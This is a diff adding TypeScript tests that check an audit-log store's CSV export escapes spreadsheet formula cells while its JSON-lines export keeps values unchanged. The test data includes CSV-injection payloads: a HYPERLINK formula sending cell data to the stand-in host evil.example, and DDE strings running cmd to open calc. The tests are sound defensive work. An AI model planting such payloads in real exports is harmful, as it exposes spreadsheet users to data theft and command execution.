@@ -5,7 +5,7 @@ import assert from 'node:assert/strict';
 import { openPglite } from '@tampertrace/shared/pglite';
 import { ErrorCode } from '@tampertrace/shared/gen/tampertrace/v1/common_pb';
 import { AuditStore, canonicalJson, type AuditRow } from './store.ts';
-import { CSV_COLUMNS } from './export.ts';
+import { CSV_COLUMNS, csvCell } from './export.ts';
 import { MAX_PAGE_SIZE, pageSize } from './query.ts';
 import { allPages, chainRecords, filterCases, insertRows, matchesFilter, newestFirst, syntheticRecords } from './testing.ts';
 
@@ -87,6 +87,61 @@ test('exportRecords streams JSON lines and CSV of exactly the matching records',
     for await (const _ of store.exportRecords('ta', {}, 'xml' as never)) void _;
   }, (e: { code?: unknown }) => e.code === ErrorCode.INVALID_MESSAGE);
   await store.close();
+});
+
+test('CSV export neutralises formula cells (=HYPERLINK source name and the rest) while JSON lines keep them as stored', async () => {
+  const db = await openPglite(undefined);
+  const store = new AuditStore(db);
+  await store.migrate();
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '+1+cmd|\' /C calc\'!A0',
+    '-2+3',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+  const inputs = [...syntheticRecords({ tenants: [{ id: 'ta', weight: 1 }], count: hostile.length + 1, seed: 9, start: START, spanMs: SPAN })];
+  inputs.forEach((r, i) => {
+    r.sourceName = hostile[i] ?? 'plain-name.png';
+    r.submittedBy = i === 0 ? '@attacker' : r.submittedBy;
+  });
+  const rows = chainRecords(inputs, new Map());
+  await insertRows(db, rows);
+  const bySequence = new Map(rows.map((r) => [r.sequence, r]));
+  const col = (name: string) => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);
+
+  let csv = '';
+  for await (const c of store.exportRecords('ta', {}, 'csv')) csv += c;
+  const records = parseCsv(csv).slice(1);
+  assert.equal(records.length, rows.length);
+  for (const rec of records) {
+    const row = bySequence.get(Number(rec[col('sequence')]));
+    assert.ok(row, `sequence ${rec[col('sequence')]}`);
+    const expected = /^[=+\-@\t\r]/.test(row.sourceName ?? '') ? `'${row.sourceName}` : row.sourceName;
+    assert.equal(rec[col('sourceName')], expected);
+    for (const cell of rec) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no exported cell starts like a formula');
+  }
+  const first = records.find((r) => r[col('sourceName')].startsWith("'=HYPERLINK"));
+  assert.equal(first?.[col('submittedBy')], "'@attacker");
+  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'the neutralised cell is quoted');
+  assert.ok(records.some((r) => r[col('sourceName')] === 'plain-name.png'), 'ordinary text is unchanged');
+
+  const lines: AuditRow[] = [];
+  let jsonl = '';
+  for await (const c of store.exportRecords('ta', {}, 'jsonl')) jsonl += c;
+  for (const l of jsonl.trimEnd().split('\n')) lines.push(JSON.parse(l));
+  assert.deepEqual(lines.map((l) => l.sourceName).sort(), rows.map((r) => r.sourceName).sort(), 'JSON lines are lossless');
+  await store.close();
+});
+
+test('csvCell leaves numbers (negative ones too) and ordinary text alone and quotes only what needs it', () => {
+  assert.equal(csvCell(-0.5), '-0.5');
+  assert.equal(csvCell(42), '42');
+  assert.equal(csvCell('a,b'), '"a,b"');
+  assert.equal(csvCell('x=1'), 'x=1');
+  assert.equal(csvCell('-x'), `"'-x"`);
+  assert.equal(csvCell(undefined), '');
 });
 
 /** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
